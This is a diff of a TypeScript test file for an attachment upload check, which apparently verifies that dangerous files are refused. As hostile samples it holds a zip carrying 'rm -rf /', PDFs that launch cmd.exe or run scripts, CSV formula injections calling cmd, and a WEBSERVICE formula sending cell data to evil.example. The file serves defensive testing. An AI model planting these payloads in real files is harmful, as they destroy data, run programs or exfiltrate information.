@@ -1,40 +1,59 @@
-import { deflateRawSync } from 'node:zlib';
+import { buffer } from 'node:stream/consumers';
+import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
 import sharp from 'sharp';
 import { describe, expect, it, vi } from 'vitest';
+import { ZipFile } from 'yazl';
 import type { Executor } from '../database';
 import { keepAttachment } from './content';
 import type { StoredFiles } from './stored-files.repository';
 
 const executor = {} as Executor;
 
-/** A zip with one entry, as file-type reads it. */
-function zipOf(name: string, content: string): Buffer {
-  const data = deflateRawSync(Buffer.from(content));
-  const head = Buffer.alloc(30);
-  head.writeUInt32LE(0x04034b50, 0);
-  head.writeUInt16LE(20, 4);
-  head.writeUInt16LE(8, 8);
-  head.writeUInt32LE(data.length, 18);
-  head.writeUInt32LE(content.length, 22);
-  head.writeUInt16LE(name.length, 26);
-  return Buffer.concat([head, Buffer.from(name), data, Buffer.alloc(30)]);
+/** A zip as office programs write it. */
+async function zipOf(parts: Record<string, string>): Promise<Buffer> {
+  const zip = new ZipFile();
+  for (const [name, content] of Object.entries(parts)) zip.addBuffer(Buffer.from(content), name);
+  zip.end();
+  return buffer(zip.outputStream);
 }
 
-function officeFile(kind: string): Buffer {
-  return zipOf(
-    '[Content_Types].xml',
-    `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`,
-  );
+const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
+const xlsx = (parts: Record<string, string> = {}, type = sheetType) =>
+  zipOf({
+    '[Content_Types].xml': `<Types><Override PartName="/xl/workbook.xml" ContentType="${type}"/></Types>`,
+    '_rels/.rels': '<Relationships/>',
+    'xl/workbook.xml': '<workbook/>',
+    ...parts,
+  });
+const ods = (parts: Record<string, string> = {}) =>
+  zipOf({
+    mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
+    'content.xml': '<office:document-content/>',
+    ...parts,
+  });
+
+/** A PDF of one page, and what is done to it. */
+async function pdfWith(change: (document: PDFDocument) => unknown = () => undefined): Promise<Buffer> {
+  const document = await PDFDocument.create();
+  document.addPage([200, 200]);
+  await change(document);
+  return Buffer.from(await document.save());
 }
+const withAction = (action: Record<string, string>) =>
+  pdfWith((document) =>
+    document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ Type: 'Action', ...action })),
+  );
+const packing = (name: string) => pdfWith((document) => document.attach(Buffer.from('MZ'), name));
 
 function keeping() {
-  const keep = vi.fn<StoredFiles['keep']>(async (_tx, bytes) => ({
+  const keep = vi.fn<StoredFiles['keepUpload']>(async (_tx, bytes) => ({
     fileId: 1,
     sha256: 'hash',
     sizeBytes: bytes.length,
   }));
   const files: StoredFiles = {
-    keep,
+    keep: () => Promise.reject(new Error('not our own')),
+    keepUpload: keep,
     read: () => Promise.reject(new Error('not read')),
     readByHash: () => Promise.reject(new Error('not read')),
   };
@@ -48,25 +67,25 @@ const ole = (...names: string[]) =>
     ...names.map((name) => Buffer.from(`${name}\0`, 'utf16le')),
     Buffer.alloc(64),
   ]);
-const pdf = Buffer.from('%PDF-1.7\n%âãÏÓ\n');
+const pdf = await pdfWith();
 const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
 const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>');
 const page = Buffer.from('<!doctype html><script>alert(1)</script>');
 const picture = () => sharp({ create: { width: 20, height: 10, channels: 3, background: 'blue' } });
 const keepFile = (fileName: string, bytes: Uint8Array, { files, keep } = keeping()) => ({
-  kept: keepAttachment(files, executor, { fileName, bytes }),
+  kept: keepAttachment(files, executor, { fileName, bytes }, 7),
   keep,
 });
 
-describe('keepAttachment', () => {
+describe('keepAttachment', async () => {
   it.each([
     ['offer.pdf', 'application/pdf', pdf],
     ['OFFER.PDF', 'application/pdf', pdf],
-    [
-      'prices.xlsx',
-      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
-      officeFile('spreadsheetml.sheet'),
-    ],
+    ['prices.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', await xlsx()],
+    ['prices.ods', 'application/vnd.oasis.opendocument.spreadsheet', await ods()],
+    ['drawing.pdf', 'application/pdf', await withAction({ S: 'URI', URI: 'https://example.com' })],
+    ['invoice.pdf', 'application/pdf', await packing('factur-x.xml')],
+    ['sums.csv', 'text/csv; charset=utf-8', Buffer.from('item,sum\nPipe,=A1*2\nPhone,+91 98765\n')],
     ['prices.xls', 'application/vnd.ms-excel', ole('Root Entry', 'Workbook')],
     ['old.xls', 'application/vnd.ms-excel', ole('Root Entry', 'Book')],
     ['a.csv', 'text/csv; charset=utf-8', Buffer.from('item,price\n"Pipe, steel",₹ 40\nValve,12\n')],
@@ -104,9 +123,13 @@ describe('keepAttachment', () => {
     ['a table named as a PDF', 'a.pdf', Buffer.from('a,b\n1,2\n')],
     ['a PDF with an ending of a program', 'offer.pdf.bat', pdf],
     ['a name without an ending', 'offer', pdf],
-    ['a zip of anything', 'run.xlsx', zipOf('run.sh', 'rm -rf /')],
-    ['a text document', 'letter.docx', officeFile('wordprocessingml.document')],
-    ['a text document named as a workbook', 'letter.xlsx', officeFile('wordprocessingml.document')],
+    ['a zip of anything', 'run.xlsx', await zipOf({ 'run.sh': 'rm -rf /' })],
+    ['a text document', 'letter.docx', await xlsx()],
+    [
+      'a text document named as a workbook',
+      'letter.xlsx',
+      await xlsx({}, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
+    ],
     ['a note', 'note.txt', Buffer.from('Dear all')],
     ['a GIF', 'a.gif', Buffer.from('GIF89a\u0001\u0000\u0001\u0000')],
     ['an empty file', 'a.csv', Buffer.alloc(0)],
@@ -117,13 +140,25 @@ describe('keepAttachment', () => {
     ['an older workbook with macros', 'a.xls', ole('Root Entry', 'Workbook', '_VBA_PROJECT')],
     ['words of a workbook in another file', 'a.xls', Buffer.from('Workbook\0', 'utf16le')],
     [
-      'a workbook with macros',
+      'a workbook that says it has macros',
       'a.xlsx',
-      zipOf(
-        '[Content_Types].xml',
-        '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
-      ),
+      await xlsx({}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
     ],
+    ['a workbook with macros', 'a.xlsx', await xlsx({ 'xl/vbaProject.bin': 'x' })],
+    ['a workbook with a program', 'a.xlsx', await xlsx({ 'xl/embeddings/run.exe': 'MZ' })],
+    ['a workbook cut off', 'a.xlsx', (await xlsx()).subarray(0, 300)],
+    ['the list of a workbook alone', 'a.xlsx', await zipOf({ '[Content_Types].xml': sheetType })],
+    ['a sheet with macros', 'a.ods', await ods({ 'Basic/Standard/Module1.xml': 'x' })],
+    ['a text as OpenDocument', 'a.ods', await ods({ mimetype: 'application/vnd.oasis.opendocument.text' })],
+    ['the first bytes of a PDF', 'a.pdf', Buffer.from('%PDF-1.7\n%aaaaaaaaaaaa\n')],
+    ['a PDF cut off', 'a.pdf', (await pdfWith()).subarray(0, 200)],
+    ['a PDF with a script', 'a.pdf', await withAction({ S: 'JavaScript', JS: 'app.alert(1)' })],
+    ['a PDF that starts a program', 'a.pdf', await withAction({ S: 'Launch', F: 'cmd.exe' })],
+    ['a PDF that opens what lies elsewhere', 'a.pdf', await withAction({ S: 'GoToR', F: 'x' })],
+    ['a PDF with a program', 'a.pdf', await packing('invoice.exe')],
+    ['a table that starts a program', 'a.csv', Buffer.from("a,b\n1,=cmd|' /C calc'!A0\n")],
+    ['the same in quotes and full width', 'a.csv', Buffer.from(`a\n"＋cmd|' /C calc'!A0"\n`)],
+    ['a table that fetches', 'a.csv', Buffer.from('=WEBSERVICE("https://evil.example/?"&A1)\n')],
   ])('refuses %s', async (_what, name, bytes) => {
     const { kept, keep } = keepFile(name, bytes);
     await expect(kept).rejects.toMatchObject({
